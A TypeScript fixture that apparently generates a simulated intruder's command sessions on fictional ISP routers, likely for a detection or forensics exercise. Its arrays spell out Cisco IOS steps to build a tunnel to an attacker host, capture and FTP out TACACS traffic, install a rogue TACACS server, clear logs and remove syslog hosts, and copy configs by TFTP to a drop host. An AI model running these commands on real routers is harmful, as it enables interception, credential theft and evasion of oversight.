import { at, HOUR } from '../fleet/clock.ts';
import { deviceNamed } from '../fleet/fleet.ts';
import { ACTOR, PIVOT } from '../fleet/people.ts';
import { type Session, type SessionInput, session } from '../sessions/session.ts';

const foothold = (start: string, commands: readonly string[], more: Partial<SessionInput> = {}): Session =>
  session({
    device: deviceNamed('pe-chi-02'),
    user: 'svc_netmon',
    from: ACTOR.web,
    start: at(start),
    commands,
    vty: 4,
    pace: 17,
    ...more,
  });

const TUNNEL = [
  'configure terminal',
  `access-list 20 permit ${ACTOR.web}`,
  'interface Tunnel48213',
  'ip address 10.199.48.1 255.255.255.252',
  'tunnel source GigabitEthernet0/0/3',
  `tunnel destination ${ACTOR.tunnel}`,
  'exit',
  'ip route 192.0.2.96 255.255.255.240 Tunnel48213',
  'end',
  'write memory',
];

const CAPTURE = [
  'monitor capture mycap interface GigabitEthernet0 both',
  'monitor capture mycap match ipv4 protocol tcp any any eq 49',
  'monitor capture mycap buffer size 100',
  'monitor capture mycap start',
];

const EXPORT = [
  'monitor capture mycap stop',
  'monitor capture mycap export bootflash:tac.pcap',
  `copy bootflash:tac.pcap ftp://${ACTOR.drop}/in/tac.pcap`,
  'delete /force bootflash:tac.pcap',
];

const TAKE_AAA = [
  'configure terminal',
  'tacacs server AAA3',
  `address ipv4 ${ACTOR.tunnel}`,
  'exit',
  'aaa group server tacacs+ HT-TACACS',
  'server name AAA3',
  'exit',
  'aaa authentication login default local group HT-TACACS',
  'interface Loopback1',
  `ip address ${PIVOT} 255.255.255.255`,
  'exit',
  'ip ssh source-interface Loopback1',
  'ip http secure-port 18443',
  'end',
  'write memory',
];

const onFoothold = (): Session[] => [
  foothold('2026-10-20T02:15:31Z', [
    'show version',
    'show ip interface brief',
    'show running-config',
    'show cdp neighbors',
  ]),
  foothold('2026-10-21T02:31:12Z', TUNNEL),
  foothold('2026-10-24T03:20:05Z', CAPTURE),
  foothold('2026-10-24T03:57:40Z', EXPORT),
  foothold('2026-10-25T01:10:18Z', ['guestshell enable', 'guestshell run bash'], { pace: 95, linger: HOUR }),
  foothold('2026-10-25T07:14:22Z', ['guestshell disable', 'guestshell destroy'], { pace: 40 }),
  foothold('2026-10-26T02:20:48Z', TAKE_AAA),
  foothold('2026-10-27T03:03:55Z', [
    'clear logging',
    'configure terminal',
    'no logging host 10.250.0.61',
    'no logging host 10.250.0.62',
    'end',
  ]),
  foothold('2026-10-27T14:05:02Z', ['configure terminal', 'logging host 10.250.0.61', 'end', 'write memory']),
];

const onwards = (): Session[] => [
  session({
    device: deviceNamed('agg-det-01'),
    user: 'l.hansen',
    from: PIVOT,
    start: at('2026-10-26T05:05:36Z'),
    commands: ['show running-config', 'show tacacs', 'show ip route', 'show snmp community'],
    pace: 31,
    vty: 2,
  }),
  session({
    device: deviceNamed('p-stl-01'),
    user: 'm.okafor',
    from: '10.250.0.22',
    start: at('2026-10-27T04:40:09Z'),
    commands: ['configure terminal', 'ip access-list standard 50', 'end'],
    pace: 40,
    unseenBy: ['accounting'],
  }),
  session({
    device: deviceNamed('p-ind-01'),
    user: 'l.hansen',
    from: '10.250.0.22',
    start: at('2026-10-27T05:12:50Z'),
    commands: [
      'show running-config | include tacacs',
      'show mpls ldp neighbor',
      'show ip route vrf LI-MEDIATION',
    ],
    pace: 26,
    unseenBy: ['login'],
  }),
  session({
    device: deviceNamed('p-stl-01'),
    user: 'rancid',
    from: '10.250.0.22',
    start: at('2026-10-29T11:40:14Z'),
    commands: [
      'show version',
      'show running-config',
      `copy running-config tftp://${ACTOR.drop}/p-stl-01.cfg`,
      'configure terminal',
      'tftp-server nvram:startup-config',
      'end',
      'show ip route 10.60.0.0',
    ],
    pace: 48,
    vty: 2,
  }),
];

/** Every login of the intruder that at least one plane of evidence saw. */
export function actorSessions(): Session[] {
  return [...onFoothold(), ...onwards()];
}
